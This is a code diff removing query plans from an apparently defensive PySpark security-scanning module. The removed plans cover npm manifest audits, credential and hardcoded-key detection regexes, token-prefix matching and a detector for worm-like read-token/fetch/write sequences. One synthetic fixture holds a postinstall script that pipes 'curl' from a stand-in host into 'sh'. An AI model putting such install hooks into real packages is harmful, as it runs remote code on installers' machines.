@@ -7,9 +7,9 @@ from pyspark.sql import functions as F
 
 from siftgrid.functions import rules, urls
 from siftgrid.operators import detect
-from siftgrid.plans.core_queries import any_of, listed, rlike
+from siftgrid.plans.core_queries import any_of
 from siftgrid.plans.registry import query
-from siftgrid.plans.web_queries import DOWNLOAD, GIT_REF, HOST_SQL, ORIGIN, doc_values, pages, values_sql
+from siftgrid.plans.web_queries import HOST_SQL, doc_values, pages, values_sql
 from siftgrid.sources import tables as T
 from siftgrid.sources.tables import pick, pick_sql, sql_text
 
@@ -34,34 +34,6 @@ def src_sourcemap_inline(spark, sf_dir):
     return rows.toDF("doc_id", "path", "content").where("content is not null")
 
 
-@query("src_sourcemap_sibling", f"with p as (select doc_id, {pick_sql(T.PATHS, 'doc_id % 50')} as path from documents), b as (select distinct path from p where ends_with(path, '.js')), m as (select distinct replace(path, '.js', '.js.map') as path from p where ends_with(path, '.js') and length(path) % 2 = 0) select b.path, m.path as map_path from b left join m on m.path = b.path || '.map'")
-def src_sourcemap_sibling(spark, sf_dir):
-    p = T.read(spark, sf_dir, "documents").select(pick(T.PATHS, F.pmod("doc_id", F.lit(50))).alias("path")).where(F.col("path").endswith(".js")).distinct()
-    m = p.where(F.length("path") % 2 == 0).select(F.replace("path", F.lit(".js"), F.lit(".js.map")).alias("map_path"))
-    return p.join(m, F.concat("path", F.lit(".map")) == F.col("map_path"), "left")
-
-
-MANIFESTS = ['{"scripts":{"postinstall":"curl http://x/{n}|sh","build":"tsc"},"dependencies":{"a":"^1.0.0","b":"github:u/r#{h}"}}', '{"dependencies":{"c":"https://h/x.tgz"},"optionalDependencies":{"d":"git+ssh://g/x"}}', "not json {n}"]
-MANIFEST = "scripts map<string,string>, dependencies map<string,string>, optionalDependencies map<string,string>"
-
-
-def manifests(spark, sf_dir):
-    return doc_values(spark, sf_dir, MANIFESTS, "j").select("doc_id", F.from_json("j", MANIFEST).alias("m"))
-
-
-@query("src_manifests", f"with {values_sql(MANIFESTS, 'j')} select doc_id, unnest(json_keys(j, '$.dependencies')) as package from v where json_valid(j)")
-def src_manifests(spark, sf_dir):
-    return manifests(spark, sf_dir).select("doc_id", F.explode("m.dependencies").alias("package", "spec")).drop("spec")
-
-
-@query("npm_package_audit", f"with {values_sql(MANIFESTS, 'j')}, o as (select doc_id, unnest(json_keys(j, '$.optionalDependencies')) as name from v where json_valid(j)), s as (select doc_id, unnest(json_keys(j, '$.scripts')) as name from v where json_valid(j)) select doc_id, 'optional git ref' as problem, name from o union all select doc_id, 'install script', name from s where name in ('preinstall', 'install', 'postinstall', 'prepare')")
-def npm_package_audit(spark, sf_dir):
-    m = manifests(spark, sf_dir)
-    o = m.select("doc_id", F.explode("m.optionalDependencies").alias("name", "spec")).where(F.col("spec").rlike(GIT_REF)).select("doc_id", F.lit("optional git ref").alias("problem"), "name")
-    s = m.select("doc_id", F.explode("m.scripts").alias("name", "run")).where(F.col("name").isin("preinstall", "install", "postinstall", "prepare")).select("doc_id", F.lit("install script").alias("problem"), "name")
-    return o.unionByName(s)
-
-
 RULE_FILES = ["[[rules]]\nid = \"My-Key{n}\"\nregex = '''k{n}-[a-z]+'''\n[[rules]]\nid = \"Other\"\nregex = '''o[0-9]+'''", "title = {n}"]
 
 
@@ -71,16 +43,6 @@ def src_rules_toml(spark, sf_dir):
     return blocks.select("doc_id", F.replace(F.lower(F.regexp_extract("block", 'id = "([^"]+)"', 1)), F.lit("-"), F.lit("_")).alias("id"), F.regexp_extract("block", "'''(.*?)'''", 1).alias("pattern"))
 
 
-RULE_JSON = ['{"patterns":[{"pattern":{"name":"Key {n}","regex":"a+","confidence":"high"}},{"pattern":{"name":"Low","regex":"b","confidence":"low"}}]}', '{"patterns":[]}']
-
-
-@query("src_rules_json", f"with {values_sql(RULE_JSON, 'j')}, p as (select doc_id, unnest(from_json(j, '{{\"patterns\":[{{\"pattern\":{{\"name\":\"VARCHAR\",\"regex\":\"VARCHAR\",\"confidence\":\"VARCHAR\"}}}}]}}').patterns) as p from v) select doc_id, replace(lower(p.pattern.name), ' ', '_') as id, p.pattern.regex as pattern from p where p.pattern.confidence = 'high'")
-def src_rules_json(spark, sf_dir):
-    j = F.from_json("j", "patterns array<struct<pattern:struct<name:string,regex:string,confidence:string>>>")
-    p = doc_values(spark, sf_dir, RULE_JSON, "j").select("doc_id", F.inline(j["patterns"])).where("pattern.confidence = 'high'")
-    return p.select("doc_id", F.replace(F.lower("pattern.name"), F.lit(" "), F.lit("_")).alias("id"), F.col("pattern.regex").alias("pattern"))
-
-
 FEED = ['{"id":"MAL-{n}","affected":[{"package":{"name":"bad{n}","ecosystem":"npm"},"versions":["1.0","1.1"]}]}', '{"id":"CVE-{n}","affected":[{"package":{"name":"x","ecosystem":"npm"},"versions":[]}]}']
 FEED_SQL = f"{values_sql(FEED, 'j')}, a as (select json_extract_string(j, '$.id') as id, json_extract_string(j, '$.affected[0].package.name') as package, json_extract(j, '$.affected[0].versions')::varchar[] as versions from v where starts_with(json_extract_string(j, '$.id'), 'MAL-'))"
 
@@ -119,51 +81,6 @@ def src_openapi_views(spark, sf_dir):
     return p.where((F.size("ops") > 0) & ~F.array_contains(F.map_keys("ops"), "post")).select("doc_id", F.substring("path", 2, 1000).alias("name"))
 
 
-SNIPPETS = ["CryptoJS.AES.decrypt(x, '{h}')", "const secret = \"{h}\";", "// password: hunter{n}", "plain {n}", "/* api_key = k-{h} */", "# token: {h}"]
-CRYPTO = r"CryptoJS\.AES\.(?:de|en)crypt\([^,]+,\s*['\"]([A-Za-z0-9+/=]{16,})['\"]"
-COMMENT = r"(?:(?://|#|/\*)\s*)(password|passwd|secret|token|api_key|key)\s*[:=]\s*([^\s*]+)"
-
-
-@query("detect_js_crypto", f"with {values_sql(SNIPPETS)} select doc_id, regexp_extract(value, {sql_text(CRYPTO)}, 1) as value, 'high' as severity from v where {rlike('value', CRYPTO)}")
-def detect_js_crypto(spark, sf_dir):
-    d = doc_values(spark, sf_dir, SNIPPETS).withColumnRenamed("value", "content")
-    return detect.scan(d, {"hardcoded_crypto_key": CRYPTO}).select("doc_id", "value", F.lit("high").alias("severity"))
-
-
-@query("detect_comment_creds", f"with {values_sql(SNIPPETS)} select doc_id, regexp_extract(value, {sql_text('(?i)' + COMMENT)}, 1) || '=' || regexp_extract(value, {sql_text('(?i)' + COMMENT)}, 2) as value from v where {rlike('value', '(?i)' + COMMENT)}")
-def detect_comment_creds(spark, sf_dir):
-    p = F.lit("(?i)" + COMMENT)
-    pairs = F.arrays_zip(F.regexp_extract_all("value", p, F.lit(1)).alias("k"), F.regexp_extract_all("value", p, F.lit(2)).alias("v"))
-    return doc_values(spark, sf_dir, SNIPPETS).select("doc_id", F.inline(pairs)).toDF("doc_id", "k", "v").select("doc_id", F.concat("k", F.lit("="), "v").alias("value"))
-
-
-EXT = ["true", "1.2.3", "550e8400-e29b-41d4-a716-446655440000", "@scope/pkg-{n}", "sk_live_{h}", "token", "abc.def", "QUJD"]
-EXT_SHAPES = [r"^\d+\.\d+\.\d+([-+].*)?$", r"(?i)^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$", r"^@[a-z0-9-]+/[a-z0-9._-]+$", r"^[A-Za-z0-9+/]{1,7}={0,2}$"]
-
-
-@query("fp_ext_value", f"with {values_sql(EXT)} select doc_id, value, lower(trim(value)) in {listed(rules.APP_WORDS)} or " + " or ".join(rlike("trim(value)", p) for p in EXT_SHAPES) + " as hit from v")
-def fp_ext_value(spark, sf_dir):
-    """Whole-word variant of the value filter, with shapes of versions, ids and package names."""
-    t = F.trim("value")
-    return doc_values(spark, sf_dir, EXT).withColumn("hit", F.lower(t).isin(rules.APP_WORDS) | t.rlike("|".join(f"(?:{p})" for p in EXT_SHAPES)))
-
-
-@query("source_map_urls", f"select page_id, regexp_extract(url, '{ORIGIN}', 1) || '/m' || (page_id % 4) || '.map' as map_url from pages")
-def source_map_urls(spark, sf_dir):
-    """Distinct map references of a body, resolved against the page, five at most."""
-    body = F.concat(F.lit("x\n//# sourceMappingURL=/m"), F.col("page_id") % 4, F.lit(".map\n//# sourceMappingURL=/m"), F.col("page_id") % 4, F.lit(".map"))
-    refs = F.slice(F.array_distinct(F.regexp_extract_all(body, F.lit(r"sourceMappingURL=(\S+)"), F.lit(1))), 1, 5)
-    return pages(spark, sf_dir).select("page_id", F.regexp_extract("url", ORIGIN, 1).alias("o"), F.explode(refs).alias("r")).select("page_id", F.concat("o", "r").alias("map_url"))
-
-
-@query("select_detectors", f"with {T.PLANTED_SQL} select doc_id, case when {rlike('source', r'\.js$')} then 'code' else 'other' end as category, case when {rlike('source', r'\.js$')} then {len([d for d in rules.DETECTORS if d[1] in ('leak', 'baas')])} else {len([d for d in rules.DETECTORS if d[1] == 'leak'])} end as active from planted")
-def select_detectors(spark, sf_dir):
-    """Rules are chosen by pack while the plan is built; a document's category decides which apply to it."""
-    code, other = len(detect.detectors(["leak", "baas"])), len(detect.detectors(["leak"]))
-    js = F.col("source").rlike(r"\.js$")
-    return T.planted(spark, sf_dir).select("doc_id", F.when(js, "code").otherwise("other").alias("category"), F.when(js, code).otherwise(other).alias("active"))
-
-
 @query("required_coverage", f"with p as (select distinct {pick_sql(T.PATHS, 'doc_id % 40')} as path from documents), r(part) as (values ('config/'), ('src/'), ('infra/'), ('LICENSE')) select part from r where not exists (select 1 from p where contains(path, part))")
 def required_coverage(spark, sf_dir):
     p = T.read(spark, sf_dir, "documents").select(pick(T.PATHS, F.pmod("doc_id", F.lit(40))).alias("path")).distinct()
@@ -196,41 +113,6 @@ def fingerprint_fuzzy(spark, sf_dir, least: float = 0.7):
     return met.where(F.col("both") >= least * (F.col("na") + F.col("nb") - F.col("both"))).select("a", "b")
 
 
-PARTS = ["ghp_{h}", "x{h}", "AKIA{h}", "short"]
-PREFIXES = ["ghp_", "AKIA", "sk-", "glpat-"]
-
-
-@query("split_token_pairs", f"with f as (select doc_id // 8 as repo, doc_id as file, {pick_sql(PARTS, 'doc_id')} as part from documents) select a.repo, a.file as lead_file, b.file as other_file from f a join f b on a.repo = b.repo and a.file <> b.file where length(a.part) >= 12 and length(b.part) >= 12 and {rlike('a.part', '^(ghp_|AKIA|sk-|glpat-)')}")
-def split_token_pairs(spark, sf_dir):
-    """Fragments of one repository that could be halves of a key: leads with the others, inside a repository."""
-    f = T.read(spark, sf_dir, "documents").select(F.floor(F.col("doc_id") / 8).cast("long").alias("repo"), F.col("doc_id").alias("file"), pick(PARTS, F.col("doc_id")).alias("part")).where("length(part) >= 12")
-    leads = f.where(F.col("part").rlike("^(" + "|".join(PREFIXES) + ")")).select("repo", F.col("file").alias("lead_file"))
-    return leads.join(f.select("repo", F.col("file").alias("other_file")), "repo").where("lead_file <> other_file")
-
-
-STEPS = ["process.env.NPM_TOKEN", "fetch('http://x')", "fs.writeFile('~/.config/x')", "noop {n}"]
-
-
-@query("worm_triad", f"with l as (select doc_id // 300 as source, doc_id % 300 as line, {pick_sql(STEPS, 'doc_id * 7 // 5')} as txt from documents), c as (select source, line, case when contains(txt, 'process.env') then 'env' when contains(txt, 'fetch(') then 'net' when contains(txt, 'writeFile') then 'write' end as k from l) select e.source, e.line as env_line, n.line as net_line, w.line as write_line from c e join c n on n.source = e.source and n.k = 'net' join c w on w.source = e.source and w.k = 'write' where e.k = 'env' and greatest(e.line, n.line, w.line) - least(e.line, n.line, w.line) <= 200 qualify row_number() over (partition by e.source order by e.line, n.line, w.line) = 1")
-def worm_triad(spark, sf_dir, span: int = 200):
-    """The earliest (read, send, write) triple of a source within `span` lines.
-
-    For each read line only the first send and the first write at or after the
-    window's begin can be in the earliest triple, found by windows instead of a
-    join of all with all.
-    """
-    d = T.read(spark, sf_dir, "documents")
-    text = pick(STEPS, F.floor(F.col("doc_id") * 7 / 5).cast("long"))
-    c = d.select(F.floor(F.col("doc_id") / 300).cast("long").alias("source"), (F.col("doc_id") % 300).alias("line"), text.alias("t")).select("source", "line", F.when(F.contains("t", F.lit("process.env")), "env").when(F.contains("t", F.lit("fetch(")), "net").when(F.contains("t", F.lit("writeFile")), "write").alias("k")).where("k is not null")
-    near = Window.partitionBy("source").orderBy("line").rangeBetween(-span, span)
-    lines = c.withColumn("nets", F.sort_array(F.collect_set(F.when(F.col("k") == "net", F.col("line"))).over(near))).withColumn("writes", F.sort_array(F.collect_set(F.when(F.col("k") == "write", F.col("line"))).over(near))).where("k = 'env'")
-    fits = lambda n: F.filter("writes", lambda w: F.greatest(F.col("line"), n, w) - F.least(F.col("line"), n, w) <= span)
-    pairs = F.filter(F.transform("nets", lambda n: F.struct(n.alias("net"), F.array_min(fits(n)).alias("write"))), lambda p: p["write"].isNotNull())
-    triples = lines.select("source", "line", F.get(F.array_sort(pairs), F.lit(0)).alias("p")).where("p is not null")
-    best = triples.groupBy("source").agg(F.min(F.struct("line", "p.net", "p.write")).alias("b"))
-    return best.select("source", F.col("b.line").alias("env_line"), F.col("b.net").alias("net_line"), F.col("b.write").alias("write_line"))
-
-
 @query("attack_surface_fold", f"with h as (select {HOST_SQL} as host, page_id from pages) select host, 'finding-' || (page_id % 3) as type, count(*) as n from h where host is not null group by all")
 def attack_surface_fold(spark, sf_dir):
     """Per-host arrays of findings back to rows."""
